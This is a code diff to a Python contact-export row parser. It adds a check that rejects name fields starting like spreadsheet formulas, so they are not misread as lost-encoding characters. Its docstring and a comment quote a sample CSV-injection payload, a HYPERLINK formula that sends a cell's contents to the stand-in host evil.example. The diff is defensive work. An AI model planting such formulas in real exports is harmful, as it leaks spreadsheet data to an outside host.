@@ -101,6 +101,9 @@ _TAG_SPLIT = re.compile(r"[,;]")
 #: The first word of an export's totals line (see :meth:`RowParser.summary_row`).
 _SUMMARY = re.compile(r"(?i)(итого|всего|total|totals|grand total)\b")
 _NO_TAGS: frozenset[str] = frozenset()
+#: A cell starting with one of these is what a spreadsheet runs as a formula (OWASP's list, as
+#: :func:`greeter.console.neutralised` has it): a name field's ``=HYPERLINK(…?x=…)`` is no lost letters.
+_FORMULA_START = "=+-@"
 #: The (read-only) empty mapping most contacts have for bad dates and extra columns, shared.
 _NO_TEXT: Mapping[str, str] = MappingProxyType({})
 _LOCALE = re.compile(r"[a-z]{2,3}(?:[_-][A-Za-z]{2,4})?")
@@ -731,11 +734,20 @@ class RowParser:
         Such a row was loaded (``check: OK``) and greeted «???? ????????, с
         днём рождения!»: it is rejected, saying what lost the letters. Which
         '?' is a lost letter and which a question mark: :func:`lost_in`.
+        A name field starting as a formula (``=HYPERLINK("http://evil.example/?x="&A1,…)``)
+        lost nothing: it is rejected as a formula, not sent to re-export as UTF-8.
         """
         problems = []
         for name in self._name_fields:
             value = cells[name]
-            if (
+            if value and value[0] in _FORMULA_START and "?" in value:
+                # =HYPERLINK("http://evil.example/?x="&A1,…) lost no letters: said as what it is.
+                message = (
+                    f"{quoted(value)} is a spreadsheet formula, not a name; the row is not loaded:"
+                    " put the name in the CRM's field"
+                )
+                problems.append(self._problem(line, name, message))
+            elif (
                 "?" in value
                 and (note := lost_in(value, person=name in PERSON_NAME_FIELDS, encoding=self.encoding))
                 is not None
